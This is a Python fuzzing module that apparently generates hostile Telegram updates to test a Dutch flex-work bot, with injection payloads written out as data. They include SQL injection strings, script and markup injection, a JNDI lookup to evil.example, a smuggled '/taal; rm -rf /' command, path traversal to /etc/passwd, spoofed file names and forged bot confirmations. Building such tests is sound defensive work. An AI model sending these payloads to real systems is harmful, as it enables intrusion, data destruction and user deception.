"""Updates as somebody with bad intentions, or a strange phone, would make them: each valid as Telegram sends it, none of them kind.

Everything that a person writes holds their mark, `Zq1001Zq`, so that it can be seen where it ends up.
"""

from random import Random
from typing import Any

Json = dict[str, Any]

EVIL = "evil.example"
CONFIRMATIONS = ("✅ Je uren zijn bevestigd.", "Je hebt ja gezegd.", "✔ Betaald: € 2.392,00", "ℹ️ Bericht van de gemeente:")
NAMES = (
    "<b>Amina",
    "O'Brien & <i>Zn</i>",
    "Ami\u202ena\u2066",
    "\u200b\u200d\u2060Am\u00adina",
    "✅ Bevestigd",
    "{0.__class__}",
    "%s%n%d",
    "'; DROP TABLE person; --",
    "Аминa",
    "يوسف",
    "A\u0301\u0302\u0303\u0304\u0305\u0306mina",
    f"</b><a href='http://{EVIL}'>Amina</a>",
    "Jan\nJe hebt ja gezegd.",
    "🤖 flexbot",
    "{{7*7}}",
    "<3",
)
TEXTS = (
    "<b>{m}</b>",
    f"<a href='http://{EVIL}/'>{{m}}</a>",
    "</blockquote><b>{m}</b>",
    "<script>alert('{m}')</script>",
    "<tg-spoiler>{m}</tg-spoiler>",
    "&lt;u&gt;{m}&lt;/u&gt; &#60;s&#62;",
    "<pre>{m}",
    "<{m}",
    "{m}\u202egnol si tid\u202c",
    "\u2066\u2067{m}",
    "{m}\u200b\u200c\u2060\ufeff",
    "Јa, stel mе voor {m}",
    "j\u0430 {m}",
    "\u0001\u0007{m}\u007f",
    "{m}" + "\u0334\u0321\u0489" * 300,
    "\n" * 50 + "{m}",
    "'; DROP TABLE person; -- {m}",
    '" OR 1=1 -- {m}',
    "{m}'); DELETE FROM trail; --",
    "%s %d %n %(m)s {m}",
    "${{jndi:ldap://" + EVIL + "/{m}}}",
    "{{0.__class__.__mro__}} {m}",
    "{{name}} {{contact}} {m}",
    "{{{{7*7}}}} {m}",
    "{{% print(1) %}} {m}",
    "`{m}` *{m}* _{m}_ ||{m}||",
    "{m} 25:99 tot 31:00",
    "-1 uur {m}",
    "1e309 uur {m}",
    "٣ uur {m}",
    "van ９ tot １７ {m}",
    "7,5 uur op 31 februari {m}",
    "{m} 00:00-24:00-48:00",
    "/start {m}",
    "/stop@{m}",
    "/taal; rm -rf / {m}",
    "/start " + "A" * 64 + "{m}",
    "../../../../etc/passwd {m}",
    "{m}\\u0000\\x00",
    "tg://user?id=1 {m}",
    "@everyone {m}",
    "#{m} $USD /help_{m}",
    "👨‍👩‍👧‍👦" * 40 + "{m}",
    "￼￻{m}",
    "{m}\u2028{m}\u2029{m}",
)
LONG = ("x", "é", "😀", "\u0300", "<", "&", "\u202e", " ", "\n", "{", "9")
MENU = (
    "Mijn werk",
    "Mijn uren",
    "Mijn premie",
    "Iets vragen",
    "Wat wacht",
    "Klussen",
    "Mijn kandidaten",
    "Mijn mensen",
    "Hulp",
    "/gegevens",
)
COMMANDS = ("/start", "/stop", "/taal", "/hulp", "/uren", "/vraag", "/werk", "/premie", "/wacht", "/klussen")
FILE_NAMES = (
    "42.zip",
    "../../../../etc/passwd",
    "rekening.pdf\u202egpj.exe",
    "<b>bom</b>.jpg",
    "CON",
    "a" * 250 + ".png",
    "'; DROP TABLE inbox; --.pdf",
    "{0.__class__}.docx",
    ".htaccess",
    "foto.jpg.scr",
    "\u200b",
    "%s%s%s%n",
)
MIMES = (
    "image/jpeg",
    "application/zip",
    "text/html",
    "application/x-msdownload",
    "image/svg+xml",
    "../../x",
    "",
    "a/b/c; charset=<b>",
)
SIZES = (0, 1, 20_971_520, 20_971_521, 2**40)


def mark_of(sender: int) -> str:
    """What everything holds that this person writes."""
    return f"Zq{sender}Zq"


def a_text(dice: Random, sender: int) -> str:
    """Something to type: markup, reordering, look-alikes, statements, templates, or far too much of something."""
    mark = mark_of(sender)
    if dice.random() < 0.06:
        return f"{mark} {dice.choice(LONG) * dice.choice((4_096, 4_097, 5_000))}"
    if dice.random() < 0.12:
        return f"{dice.choice(CONFIRMATIONS)}\n{mark}" if dice.random() < 0.5 else f"{mark}\n{dice.choice(CONFIRMATIONS)}"
    return dice.choice(TEXTS).format(m=mark)


def an_update(dice: Random, number: int, sender: int, others: list[int]) -> Json:
    """One update of somebody. `others` are people whom they may try to pass for."""
    who = {
        "id": sender,
        "is_bot": False,
        "first_name": dice.choice(NAMES),
        "last_name": dice.choice(("", *NAMES)),
        "language_code": dice.choice(LANGUAGES),
    }
    base = {
        "message_id": number,
        "date": 1_790_000_000 + number,
        "from": who,
        "chat": {"id": sender, "type": "private", "first_name": who["first_name"]},
    }
    chance = dice.random()
    if chance < 0.30:  # into the conversations, so that what follows is an answer to something
        return {"update_id": number, "message": base | {"text": dice.choice(MENU + COMMANDS)}}
    if chance < 0.72:
        return {"update_id": number, "message": base | {"text": a_text(dice, sender)} | _around(dice, base, others)}
    if chance < 0.78:
        return {"update_id": number, "edited_message": base | {"text": a_text(dice, sender), "edit_date": base["date"] + 1}}
    if chance < 0.84:
        return {"update_id": number, "callback_query": _press(dice, number, who, base)}
    if chance < 0.86:
        return {"update_id": number, "my_chat_member": _membership(dice, base, who)}
    return {"update_id": number, "message": base | _thing(dice, sender, others) | _around(dice, base, others)}


LANGUAGES = ("nl", "en", "ar", "xx", "<b>", "zh-hans", "", "nl'; --")


def _around(dice: Random, base: Json, others: list[int]) -> Json:
    """What a message may carry besides its words."""
    bot = {"id": 5150001, "is_bot": True, "first_name": "flexbot", "username": "flexbot"}
    forged = {
        "message_id": dice.randrange(1, base["message_id"] + 1),
        "date": base["date"],
        "chat": base["chat"],
        "from": bot,
        "text": CONFIRMATIONS[0],
    }
    return dice.choice(
        (
            {},
            {},
            {},
            {},
            {"reply_to_message": forged},
            {"forward_origin": {"type": "user", "sender_user": bot, "date": base["date"]}},
            {"via_bot": bot},
            {"media_group_id": "1"},
            {"quote": {"text": "<b>citaat</b>", "position": 0}},
            {"entities": [{"type": "text_link", "offset": 0, "length": 10_000, "url": f"http://{EVIL}/"}]},
            {
                "entities": [
                    {
                        "type": "text_mention",
                        "offset": 3,
                        "length": 1,
                        "user": {"id": dice.choice(others), "is_bot": False, "first_name": "x"},
                    }
                ]
            },
            {"chat": {"id": -100_000_000 - base["message_id"] % 50, "type": "supergroup", "title": dice.choice(NAMES)}},
        )
    )


def _press(dice: Random, number: int, who: Json, base: Json) -> Json:
    data = dice.choice(("", "AAAA", "x" * 64, "<b>", "' OR 1=1", "{0}", "\u202e", "-1", "AQAAAAAAAAAAAAAA", str(number)))
    return {
        "id": f"{number}p",
        "from": who,
        "chat_instance": "1",
        "data": data,
        "message": base | {"from": {"id": 5150001, "is_bot": True, "first_name": "flexbot"}},
    }


def _membership(dice: Random, base: Json, who: Json) -> Json:
    bot = {"id": 5150001, "is_bot": True, "first_name": "flexbot"}
    group = {"id": -100_000_000 - base["message_id"] % 50, "type": "group", "title": dice.choice(NAMES)}
    return {
        "chat": group,
        "from": who,
        "date": base["date"],
        "old_chat_member": {"status": "left", "user": bot},
        "new_chat_member": {"status": "member", "user": bot},
    }


def _thing(dice: Random, sender: int, others: list[int]) -> Json:
    """Something that is no text: files that are not what they say or far too large, cards of others, and the rest of what phones send."""
    file = {"file_id": f"F{dice.randrange(9)}", "file_unique_id": "u", "file_size": dice.choice(SIZES)}
    named = file | {"file_name": f"{mark_of(sender)}{dice.choice(FILE_NAMES)}", "mime_type": dice.choice(MIMES)}
    caption = {"caption": a_text(dice, sender)[:1_024]} if dice.random() < 0.7 else {}
    return dice.choice(
        (
            {"photo": [file | {"width": dice.choice((1, 100_000)), "height": 1}]} | caption,
            {"document": named} | caption,
            {"document": named} | caption,
            {"voice": file | {"duration": 0, "mime_type": dice.choice(MIMES)}} | caption,
            {"audio": named | {"duration": 1, "title": a_text(dice, sender)[:200], "performer": "<b>"}} | caption,
            {"video": named | {"duration": 1, "width": 0, "height": 0}} | caption,
            {
                "contact": {
                    "phone_number": "+31612345678",
                    "first_name": "<b>Karin",
                    "user_id": dice.choice(others),
                    "vcard": "BEGIN:VCARD",
                }
            },
            {"location": {"latitude": 91.0, "longitude": -181.0}},
            {
                "poll": {
                    "id": "1",
                    "question": a_text(dice, sender)[:300],
                    "options": [{"persistent_id": "1", "text": "<b>", "voter_count": 0}],
                    "total_voter_count": 0,
                    "allows_revoting": False,
                    "members_only": False,
                    "is_closed": False,
                    "is_anonymous": True,
                    "type": "regular",
                    "allows_multiple_answers": False,
                }
            },
            {"dice": {"emoji": "🎲", "value": 6}},
            {
                "sticker": file
                | {"type": "regular", "width": 1, "height": 1, "is_animated": False, "is_video": False, "emoji": "✅"}
            },
            {"web_app_data": {"data": a_text(dice, sender), "button_text": "<b>"}},
            {"venue": {"location": {"latitude": 0.0, "longitude": 0.0}, "title": a_text(dice, sender)[:100], "address": "<i>"}},
            {"pinned_message": {"message_id": 1, "date": 0, "chat": {"id": sender, "type": "private"}}},
            {"new_chat_title": "<b>"},
            {"users_shared": {"request_id": 1, "users": [{"user_id": dice.choice(others)}]}},
            {},
        )
    )
